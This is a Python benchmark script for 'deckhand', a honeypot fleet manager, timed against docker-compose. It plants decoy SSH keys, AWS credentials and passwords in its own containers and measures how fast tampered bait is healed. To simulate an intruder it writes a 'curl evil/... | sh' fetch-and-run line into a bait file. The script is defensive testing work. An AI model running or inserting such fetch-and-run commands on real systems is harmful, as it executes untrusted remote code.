#!/usr/bin/env python3
"""deckhand side by side with what DECNET operators use today, on the local engine.

Builds its own fleets (names starting `bench`), runs every comparison in the
same run, and prints a table. Each figure is the median of several runs;
ratios are taken pair by pair (run i of one tool against run i of the other)
and their median reported. Run it through scripts/bench.sh, which builds the
release binary and the images first.

  1. no-change plan of 50 deckies x 3 services x 4 files, reading bait from
     the host (SPEC 10) and through the engine (DECKHAND_READ=engine), against
     checking the same 200 files with one `docker exec ... sha256sum` each
     (DECNET's way); and the daemon CPU each costs (/proc/<dockerd>/stat)
  2. adding one service to one decky: `deckhand apply` against
     `docker-compose up -d --no-deps <service>`; both checked to leave every
     other container's id and start time alone
  3. first apply of the 50-decky fleet against `docker-compose up -d`
  4. peak memory (and time) of planning 500 deckies with nothing live
  5. no-change plan time at 10, 50 and 100 deckies, and its slope
  6. an intruder's edit of a bait file until `deckhand watch --interval 600`
     has healed it (inotify from the host), on the 50-decky fleet
  7. the same watch with and without a flood (issue 20): an intruder in one
     decky running a read loop, a chmod loop, ten rewrites a second and 20 MiB of
     new random bytes over another bait each second; side by side, watch CPU and dockerd CPU
     (share of one core), watch's peak RSS (VmHWM), evidence growth, passes,
     and the heal time of another decky's bait edited meanwhile
"""

import argparse
import json
import os
import platform
import shutil
import statistics
import subprocess
import sys
import tempfile
import time

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
IMAGE = "deckhand/busybox:1.35"
FLEET = "bench"
PROJECT = "cbench"  # the compose project, and the prefix of its container names
SERVICES = ["ssh", "http", "ftp"]
EXTRA = "smtp"  # the service added in figure 2

CATALOG = {
    "ssh": {"command": ["sleep", "infinity"], "env": {"SSH_BANNER": "SSH-2.0-OpenSSH_8.9p1"}},
    "http": {"command": ["httpd", "-f", "-p", "80"], "env": {}},
    "ftp": {"command": ["sleep", "infinity"], "env": {"FTP_BANNER": "220 ProFTPD"}},
    "smtp": {"command": ["sleep", "infinity"], "env": {"MAIL_NAME": "mx1"}},
}

# Four bait files per decky, an admin's home directory in the ssh service (the
# default target): deckhand reads them with one archive call per decky.
FILES = [
    ("/home/admin/.bash_history", "ls -la\ncat /etc/passwd\nssh db01\n", "0o600", "1000:1000", False),
    ("/home/admin/.ssh/id_rsa", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn{i}\n", "0o600", "1000:1000", True),
    ("/home/admin/.aws/credentials", "[default]\naws_access_key_id = AKIAEXAMPLE{i}\n", "0o600", "1000:1000", True),
    ("/home/admin/notes/passwords.txt", "db01 root / Winter2025! ({i})\n", "0o644", "1000:1000", False),
]


def decky(i):
    return f"d{i:03}"


def toml_string(s):
    return json.dumps(s)


def deckhand_config(n, extra_on_first=False, fleet=None):
    fleet = fleet or FLEET
    out = [f'[fleet]\nname = "{fleet}"\nbase_image = "{IMAGE}"\n']
    for svc, spec in CATALOG.items():
        out.append(f"\n[services.{svc}]\nimage = \"{IMAGE}\"\ncommand = {json.dumps(spec['command'])}\n")
        if spec["env"]:
            env = ", ".join(f"{k} = {toml_string(v)}" for k, v in spec["env"].items())
            out.append(f"env = {{ {env} }}\n")
    for i in range(n):
        name = f"{fleet}-{decky(i)}"
        services = SERVICES + ([EXTRA] if extra_on_first and i == 0 else [])
        out.append(f"\n[deckies.{name}]\nservices = {json.dumps(services)}\nhostname = \"{decky(i)}\"\n")
        for path, content, mode, owner, sensitive in FILES:
            out.append(f'\n[deckies.{name}.files."{path}"]\ncontent = {toml_string(content.format(i=i))}\n')
            out.append(f'mode = {mode}\nowner = "{owner}"\nmtime = "2025-01-12T09:30:00Z"\n')
            if sensitive:
                out.append("sensitive = true\n")
    return "".join(out)


def compose_config(n, extra_on_first=False):
    """The same containers as deckhand_config, as DECNET's compose would declare them."""
    services = {}
    for i in range(n):
        base = f"{PROJECT}-{decky(i)}"
        services[decky(i)] = {
            "image": IMAGE,
            "container_name": base,
            "hostname": decky(i),
            "command": ["sleep", "infinity"],
            "network_mode": "bridge",
            "labels": {"decnet.fleet.decky": decky(i)},
        }
        for svc in SERVICES + ([EXTRA] if extra_on_first and i == 0 else []):
            spec = CATALOG[svc]
            services[f"{decky(i)}-{svc}"] = {
                "image": IMAGE,
                "container_name": f"{base}-{svc}",
                "command": spec["command"],
                "environment": spec["env"],
                "network_mode": f"service:{decky(i)}",
                "depends_on": [decky(i)],
                "labels": {
                    "decnet.fleet.service": "true",
                    "decnet.fleet.decky": decky(i),
                    "decnet.fleet.service_name": svc,
                },
            }
    # JSON is YAML: docker-compose reads it as is.
    return json.dumps({"version": "2.4", "services": services}, indent=1)


class Timed:
    def __init__(self, seconds, max_rss_kib, code, output):
        self.seconds, self.max_rss_kib, self.code, self.output = seconds, max_rss_kib, code, output


def timed(cmd, cwd=None, check=True, env=None):
    """Runs cmd; wall time and the peak RSS of that process (wait4)."""
    with tempfile.TemporaryFile() as out:
        start = time.perf_counter()
        full_env = dict(os.environ, **(env or {}))
        proc = subprocess.Popen(cmd, cwd=cwd, stdout=out, stderr=subprocess.STDOUT, env=full_env)
        _, status, usage = os.wait4(proc.pid, 0)
        seconds = time.perf_counter() - start
        proc.returncode = os.waitstatus_to_exitcode(status)
        out.seek(0)
        output = out.read().decode(errors="replace")
    if check and proc.returncode != 0:
        sys.exit(f"failed ({proc.returncode}): {' '.join(cmd)}\n{output}")
    return Timed(seconds, usage.ru_maxrss, proc.returncode, output)


def sh(*cmd, check=True):
    r = subprocess.run(cmd, capture_output=True, text=True)
    if check and r.returncode != 0:
        sys.exit(f"failed: {' '.join(cmd)}\n{r.stdout}{r.stderr}")
    return r.stdout


def remove_label(label):
    ids = sh("docker", "ps", "-aq", "--filter", f"label={label}").split()
    if ids:
        sh("docker", "rm", "-f", *ids)


def cleanup():
    for fleet in (FLEET, FLEET + "big"):
        remove_label(f"deckhand.fleet={fleet}")
    remove_label(f"com.docker.compose.project={PROJECT}")


def snapshot(label):
    """name -> (id, started at) of every container with the label."""
    ids = sh("docker", "ps", "-aq", "--filter", f"label={label}").split()
    if not ids:
        return {}
    lines = sh("docker", "inspect", "-f", "{{.Name}} {{.Id}} {{.State.StartedAt}}", *ids).split("\n")
    return {l.split()[0].lstrip("/"): tuple(l.split()[1:]) for l in lines if l.strip()}


def assert_untouched(before, after, added):
    for name, state in before.items():
        if after.get(name) != state:
            sys.exit(f"{name} was touched: {state} -> {after.get(name)}")
    if set(after) - set(before) != {added}:
        sys.exit(f"expected exactly {added} to be added, got {sorted(set(after) - set(before))}")


def dockerd_cpu():
    """CPU seconds dockerd and its reaped helpers (the archive helpers) have used."""
    pid = sh("pidof", "dockerd").split()[0]
    fields = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
    # utime stime cutime cstime: fields 14-17 of stat(5), here 11-14 after the name.
    return sum(int(f) for f in fields[11:15]) / os.sysconf("SC_CLK_TCK")


def machine_busy():
    """CPU seconds the whole machine has spent busy (all but idle and iowait)."""
    fields = [int(f) for f in open("/proc/stat").readline().split()[1:]]
    return (sum(fields) - fields[3] - fields[4]) / os.sysconf("SC_CLK_TCK")


def busy_during(run):
    """Runs `run()`; returns its result and the machine's busy CPU seconds meanwhile."""
    before = machine_busy()
    result = run()
    return result, machine_busy() - before


def proc_cpu(pid):
    """CPU seconds process `pid` has used (utime + stime)."""
    fields = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def peak_rss_kib(pid):
    """Peak resident memory of process `pid` (VmHWM), in KiB."""
    line = next(l for l in open(f"/proc/{pid}/status") if l.startswith("VmHWM:"))
    return int(line.split()[1])


def du(path):
    """Bytes allocated under `path` (0 when it does not exist)."""
    total = 0
    for dirpath, _, names in os.walk(path):
        for name in names:
            try:
                total += os.lstat(os.path.join(dirpath, name)).st_blocks * 512
            except FileNotFoundError:
                pass
    return total


def host_read(container, path):
    """A file's bytes read from the host through the container's root: no engine
    call, so the heal time is not an exec's and dockerd's CPU is not ours."""
    pid = sh("docker", "inspect", "-f", "{{.State.Pid}}", container).strip()
    try:
        with open(f"/proc/{pid}/root{path}", "rb") as f:
            return f.read()
    except OSError:
        return b""


def wait_for(log, text, seconds):
    deadline = time.time() + seconds
    while text not in open(log).read():
        if time.time() > deadline:
            sys.exit(f"no {text!r} in {seconds} s:\n{open(log).read()[-5000:]}")
        time.sleep(0.1)


def median(xs):
    return statistics.median(xs)


def progress(msg):
    print(f"[{time.strftime('%H:%M:%S')}] {msg}", file=sys.stderr, flush=True)


class Bench:
    def __init__(self, deckhand, runs, work):
        self.deckhand, self.runs, self.work = deckhand, runs, work
        self.cfg = os.path.join(work, "deckhand.toml")
        self.compose = os.path.join(work, "docker-compose.json")
        self.rows = []

    def write(self, n, extra=False, fleet=None):
        with open(self.cfg, "w") as f:
            f.write(deckhand_config(n, extra, fleet))

    def dh(self, *args, check=True, env=None):
        return timed([self.deckhand, *args, "-f", self.cfg, "--no-color"], check=check, env=env)

    def apply(self):
        return self.dh("apply", "--auto-approve")

    def no_change_plan(self, env=None):
        t = self.dh("plan", env=env)
        if "No changes." not in t.output:
            sys.exit(f"expected No changes.:\n{t.output}")
        return t

    def compose_cmd(self, *args):
        return timed(["docker-compose", "-p", PROJECT, "-f", self.compose, *args])

    def write_compose(self, n, extra=False):
        with open(self.compose, "w") as f:
            f.write(compose_config(n, extra))

    # --- figures -------------------------------------------------------

    def first_apply(self, n):
        progress(f"3. first apply of {n} deckies, {self.runs['apply']} runs each tool")
        ours, theirs = [], []
        self.write(n)
        self.write_compose(n)
        for _ in range(self.runs["apply"]):
            remove_label(f"deckhand.fleet={FLEET}")
            ours.append(self.apply().seconds)
            remove_label(f"deckhand.fleet={FLEET}")
            theirs.append(self.compose_cmd("up", "-d").seconds)
            self.compose_cmd("down")
        self.rows.append((f"3. First apply, {n} deckies ({n * 4} containers; deckhand also drops {n * 4} files)",
                          ours, "docker-compose up -d", theirs))

    def apply_destroy(self, n):
        """Figure 3 both ways: first apply, then `deckhand destroy` against
        `docker-compose down`, each tool bringing up and taking down its own."""
        progress(f"3. first apply and destroy of {n} deckies, {self.runs['apply']} runs each tool")
        up, theirs_up, down, theirs_down = [], [], [], []
        cpu = {"up": [], "theirs_up": [], "down": [], "theirs_down": []}

        def timed_cpu(seconds, key, run):
            result, busy = busy_during(run)
            seconds.append(result.seconds)
            cpu[key].append(busy)

        self.write(n)
        self.write_compose(n)
        for _ in range(self.runs["apply"]):
            cleanup()
            timed_cpu(up, "up", self.apply)
            timed_cpu(down, "down", lambda: self.dh("destroy", "--auto-approve"))
            timed_cpu(theirs_up, "theirs_up", lambda: self.compose_cmd("up", "-d"))
            timed_cpu(theirs_down, "theirs_down", lambda: self.compose_cmd("down"))
        self.rows.append((f"3. First apply, {n} deckies ({n * 4} containers; deckhand also drops {n * 4} files)",
                          up, "docker-compose up -d", theirs_up))
        self.rows.append((f"3b. Destroy, {n} deckies", down, "docker-compose down", theirs_down))
        self.machine_cpu = cpu

    def no_change_vs_exec(self, n):
        progress(f"1. no-change plan of {n} deckies vs docker exec sha256sum per file")
        self.write(n)
        self.apply()
        files = []
        for i in range(n):
            for path, *_ in FILES:
                files.append((f"{FLEET}-{decky(i)}-ssh", path))
        host, engine, theirs = [], [], []
        cpu = {"host": [], "engine": []}
        for _ in range(self.runs["exec"]):
            for times, key, env in ((host, "host", None), (engine, "engine", {"DECKHAND_READ": "engine"})):
                before = dockerd_cpu()
                times.append(self.no_change_plan(env).seconds)
                cpu[key].append(dockerd_cpu() - before)
            start = time.perf_counter()
            for container, path in files:
                sh("docker", "exec", container, "sha256sum", path)
            theirs.append(time.perf_counter() - start)
        self.rows.append((f"1. No-change check, {n} deckies x 3 services x 4 files, bait read from the host", host,
                          f"{len(files)} x docker exec sha256sum", theirs))
        self.rows.append((f"1b. The same, bait read through the engine (DECKHAND_READ=engine)", engine,
                          f"{len(files)} x docker exec sha256sum", theirs))
        self.cpu = {k: median(v) for k, v in cpu.items()}

    def add_service(self, n):
        progress(f"2. adding one service to one decky of {n}, {self.runs['add']} runs each tool")
        ours, theirs = [], []
        label = f"deckhand.fleet={FLEET}"
        self.write(n)
        self.apply()
        targeted = []
        for _ in range(self.runs["add"]):
            for times, args in ((ours, []), (targeted, ["--target", f"{FLEET}-{decky(0)}"])):
                before = snapshot(label)
                self.write(n, extra=True)
                times.append(self.dh("apply", "--auto-approve", *args).seconds)
                assert_untouched(before, snapshot(label), f"{FLEET}-{decky(0)}-{EXTRA}")
                self.write(n)
                self.apply()
        remove_label(label)

        label = f"com.docker.compose.project={PROJECT}"
        self.write_compose(n)
        self.compose_cmd("up", "-d")
        for _ in range(self.runs["add"]):
            before = snapshot(label)
            self.write_compose(n, extra=True)
            theirs.append(self.compose_cmd("up", "-d", "--no-deps", f"{decky(0)}-{EXTRA}").seconds)
            assert_untouched(before, snapshot(label), f"{PROJECT}-{decky(0)}-{EXTRA}")
            self.compose_cmd("rm", "-sf", f"{decky(0)}-{EXTRA}")
        self.write_compose(n)
        self.compose_cmd("down")
        self.rows.append((f"2. Add one service to one decky of {n}: full apply (reads all {n * 4} files back)", ours,
                          "docker-compose up -d --no-deps", theirs))
        self.rows.append((f"2b. The same with apply --target <decky> (reads that decky's files)", targeted,
                          "docker-compose up -d --no-deps", theirs))

    def heal(self, n):
        progress(f"6. bait edit to healed under watch --interval 600, {self.runs['heal']} edits")
        self.write(n)
        self.apply()
        log = os.path.join(self.work, "watch.log")
        out = open(log, "w")
        watch = subprocess.Popen([self.deckhand, "watch", "--no-color", "--interval", "600", "-f", self.cfg],
                                 stdout=out, stderr=subprocess.STDOUT)
        container, path = f"{FLEET}-{decky(n // 2)}-ssh", FILES[0][0]
        declared = FILES[0][1]
        times = []
        try:
            deadline = time.time() + 60
            while "pass 1 done" not in open(log).read():
                if time.time() > deadline:
                    sys.exit(f"watch did not start:\n{open(log).read()}")
                time.sleep(0.1)
            for i in range(self.runs["heal"]):
                sh("docker", "exec", container, "sh", "-c", f"echo 'curl evil/{i} | sh' >> {path}")
                start = time.perf_counter()
                while sh("docker", "exec", container, "cat", path) != declared:
                    if time.perf_counter() - start > 30:
                        sys.exit(f"not healed in 30 s:\n{open(log).read()}")
                    time.sleep(0.05)
                times.append(time.perf_counter() - start)
                time.sleep(1)
        finally:
            watch.terminate()
            watch.wait()
            out.close()
        self.heal_times = times

    def flood(self, n, seconds):
        progress(f"7. watch with and without a flood, {seconds} s each")
        self.write(n)
        self.apply()
        self.flood_rows = [self.flood_run(n, seconds, False), self.flood_run(n, seconds, True)]

    def flood_run(self, n, seconds, flooded):
        """One watch for `seconds`, flooded or not; what it cost and how fast another decky healed."""
        target = f"{FLEET}-{decky(0)}-ssh"
        other, (path, declared) = f"{FLEET}-{decky(n // 2)}-ssh", FILES[0][:2]
        rewritten, big = FILES[0][0], FILES[3][0]
        evidence = os.path.join(self.work, ".deckhand", "evidence")
        evidence_before = du(evidence)
        log = os.path.join(self.work, "watch-flood.log")
        out = open(log, "w")
        watch = subprocess.Popen([self.deckhand, "watch", "--json", "--interval", "600", "-f", self.cfg],
                                 stdout=out, stderr=subprocess.STDOUT)
        loops = [f"cat {rewritten} >/dev/null", f"chmod 600 {rewritten}; sleep 0.05",
                 f"i=$((i+1)); echo x$i > {rewritten}; sleep 0.1",
                 f"head -c 20971520 /dev/urandom > {big}; sleep 1"]
        heals = []
        try:
            wait_for(log, '"status":"ended"', 60)
            cpu0, dockerd0, t0 = proc_cpu(watch.pid), dockerd_cpu(), time.perf_counter()
            if flooded:
                for body in loops:
                    sh("docker", "exec", "-d", target, "sh", "-c", f"i=0; while :; do {body}; done")
            time.sleep(seconds / 4)
            for i in range(3):
                sh("docker", "exec", other, "sh", "-c", f"echo 'curl evil/{i} | sh' >> {path}")
                start = time.perf_counter()
                while host_read(other, path) != declared.encode():
                    if time.perf_counter() - start > 60:
                        sys.exit(f"not healed in 60 s:\n{open(log).read()[-5000:]}")
                    time.sleep(0.05)
                heals.append(time.perf_counter() - start)
                time.sleep(seconds / 8)
            time.sleep(max(0.0, seconds - (time.perf_counter() - t0)))
            elapsed = time.perf_counter() - t0
            row = {
                "watch_cpu": (proc_cpu(watch.pid) - cpu0) / elapsed,
                "dockerd_cpu": (dockerd_cpu() - dockerd0) / elapsed,
                "rss_mib": peak_rss_kib(watch.pid) / 1024,
                "evidence_mib": (du(evidence) - evidence_before) / 2**20,
                "passes": open(log).read().count('"type":"pass","fleet":"' + FLEET + '","status":"started"'),
                "heal": heals,
                "seconds": elapsed,
            }
        finally:
            if flooded:
                # Every process of the container but its first (and this one):
                # the loops, mid-write or asleep, end here.
                sh("docker", "exec", target, "sh", "-c", "kill -9 -1", check=False)
            watch.terminate()
            watch.wait()
            out.close()
        return row

    def scaling(self, sizes):
        progress(f"5. no-change plan at {sizes} deckies")
        points = []
        for n in sizes:
            self.write(n)
            self.apply()
            times = [self.no_change_plan().seconds for _ in range(self.runs["plan"])]
            points.append((n, median(times)))
            progress(f"   {n} deckies: {median(times):.3f} s")
        remove_label(f"deckhand.fleet={FLEET}")
        xs, ys = [p[0] for p in points], [p[1] for p in points]
        mx, my = statistics.mean(xs), statistics.mean(ys)
        slope = sum((x - mx) * (y - my) for x, y in points) / sum((x - mx) ** 2 for x in xs)
        return points, slope

    def big_plan(self, n):
        progress(f"4. planning {n} deckies with nothing live")
        self.write(n, fleet=FLEET + "big")
        runs = [self.dh("plan") for _ in range(self.runs["plan"])]
        return median([r.max_rss_kib for r in runs]) / 1024, median([r.seconds for r in runs])


def ratio_median(ours, theirs):
    return median([t / o for o, t in zip(ours, theirs)])


def main():
    global FLEET, PROJECT
    # docker-compose 1.29 deadlocks at its default parallel limit (64) once
    # services wait on their base (network_mode: service:...): 200 containers
    # hung at 75 here. Unbounded, it is also at its fastest.
    os.environ["COMPOSE_PARALLEL_LIMIT"] = "1000"
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--deckhand", default=os.path.join(ROOT, "target/release/deckhand"))
    p.add_argument("--deckies", type=int, default=50)
    p.add_argument("--big", type=int, default=500)
    p.add_argument("--quick", action="store_true", help="fewer runs per figure (a smoke run)")
    p.add_argument("--flood-seconds", type=int, default=40, help="length of each run of figure 7")
    p.add_argument("--only-flood", action="store_true", help="figure 7 alone")
    p.add_argument("--only-apply", action="store_true", help="figure 3 alone, with destroy against compose down")
    p.add_argument("--fleet", default=FLEET, help="fleet name (and prefix of the compose project)")
    args = p.parse_args()
    FLEET, PROJECT = args.fleet, "c" + args.fleet
    runs = {"plan": 5, "exec": 3, "apply": 3, "add": 5, "heal": 5}
    if args.quick:
        runs = {k: 1 for k in runs}
    work = tempfile.mkdtemp(prefix="deckhand-bench-")
    bench = Bench(args.deckhand, runs, work)
    cleanup()
    if args.only_apply:
        try:
            bench.apply_destroy(args.deckies)
        finally:
            cleanup()
            shutil.rmtree(work, ignore_errors=True)
        print_rows(bench.rows, runs)
        print_machine_cpu(bench.machine_cpu)
        return
    if args.only_flood:
        try:
            bench.flood(args.deckies, args.flood_seconds)
        finally:
            cleanup()
            shutil.rmtree(work, ignore_errors=True)
        print_flood(bench.flood_rows, args.deckies)
        return
    try:
        n = args.deckies
        bench.first_apply(n)
        bench.no_change_vs_exec(n)
        bench.add_service(n)
        bench.heal(n)
        bench.flood(n, args.flood_seconds)
        points, slope = bench.scaling([10, n, 2 * n])
        rss_mib, big_secs = bench.big_plan(args.big)
    finally:
        cleanup()
        shutil.rmtree(work, ignore_errors=True)

    engine = sh("docker", "version", "-f", "{{.Server.Version}} (API {{.Server.APIVersion}})").strip()
    cpu = next((l.split(":", 1)[1].strip() for l in open("/proc/cpuinfo") if l.startswith("model name")), "?")
    print(f"\nMachine: {os.cpu_count()} cores ({cpu}), Linux {platform.release()}, Docker engine {engine}, "
          f"docker-compose {sh('docker-compose', 'version', '--short').strip()}. "
          f"Medians of {runs['plan']} plan, {runs['exec']} exec, {runs['apply']} first-apply, {runs['add']} add and {runs['heal']} heal runs.\n")
    print("| figure | deckhand | other tool | other | deckhand faster by |")
    print("|---|---|---|---|---|")
    for name, ours, other, theirs in bench.rows:
        print(f"| {name} | {median(ours):.2f} s | {other} | {median(theirs):.2f} s | {ratio_median(ours, theirs):.1f}x |")
    print(f"| 1c. Daemon CPU per no-change plan (dockerd and its helpers) | host reads {bench.cpu['host']:.2f} s, "
          f"engine reads {bench.cpu['engine']:.2f} s | | | |")
    print(f"| 4. Plan {args.big} deckies ({args.big * 4} containers, {args.big * 4} files), nothing live | "
          f"{rss_mib:.1f} MiB peak RSS, {big_secs:.2f} s | | | |")
    heal = bench.heal_times
    print(f"| 6. Bait edit to healed, watch --interval 600 ({len(heal)} edits, max {max(heal):.2f} s) | "
          f"{median(heal):.2f} s | watch through the engine | next interval (up to 600 s) | |")
    curve = ", ".join(f"{n}: {s:.3f} s" for n, s in points)
    print(f"| 5. No-change plan by fleet size ({curve}) | slope {slope * 1000:.1f} ms per decky | | | |")
    print_flood(bench.flood_rows, args.deckies)


def print_rows(rows, runs):
    print(f"\nMedians of {runs['apply']} runs.\n")
    print("| figure | deckhand | other tool | other | deckhand faster by |")
    print("|---|---|---|---|---|")
    for name, ours, other, theirs in rows:
        print(f"| {name} | {median(ours):.2f} s | {other} | {median(theirs):.2f} s | {ratio_median(ours, theirs):.1f}x |")


def print_machine_cpu(cpu):
    """Where figure 3's time goes: the machine's busy CPU seconds (engine,
    containerd, shims and the tool itself) during each command."""
    cores = os.cpu_count()
    print(f"\nMachine CPU busy during each command (median; {cores} cores: at most {cores} s per second of wall time)\n")
    print("| command | deckhand | docker-compose |")
    print("|---|---|---|")
    print(f"| first apply | {median(cpu['up']):.2f} s | {median(cpu['theirs_up']):.2f} s |")
    print(f"| destroy / down | {median(cpu['down']):.2f} s | {median(cpu['theirs_down']):.2f} s |")


def print_flood(rows, n):
    """Figure 7: the same watch without and with a flood, side by side."""
    quiet, flood = rows
    print(f"\n7. watch --interval 600 on {n} deckies, {quiet['seconds']:.0f} s each; flood: one decky reading, "
          "chmod-ing and rewriting a bait 10/s, 20 MiB over another each second\n")
    print("| | no flood | flood | goal under flood |")
    print("|---|---|---|---|")
    print(f"| watch CPU (share of one core) | {quiet['watch_cpu']:.0%} | {flood['watch_cpu']:.0%} | at most 25 % |")
    print(f"| dockerd CPU (share of one core) | {quiet['dockerd_cpu']:.0%} | {flood['dockerd_cpu']:.0%} | |")
    print(f"| watch peak RSS (VmHWM) | {quiet['rss_mib']:.0f} MiB | {flood['rss_mib']:.0f} MiB | at most 64 MiB |")
    print(f"| evidence growth | {quiet['evidence_mib']:.1f} MiB | {flood['evidence_mib']:.1f} MiB | under the quota, no content twice |")
    print(f"| passes | {quiet['passes']} | {flood['passes']} | |")
    print(f"| another decky's edit healed (median, max of 3) | {median(quiet['heal']):.2f} s, {max(quiet['heal']):.2f} s | "
          f"{median(flood['heal']):.2f} s, {max(flood['heal']):.2f} s | within 1 s |")


if __name__ == "__main__":
    main()
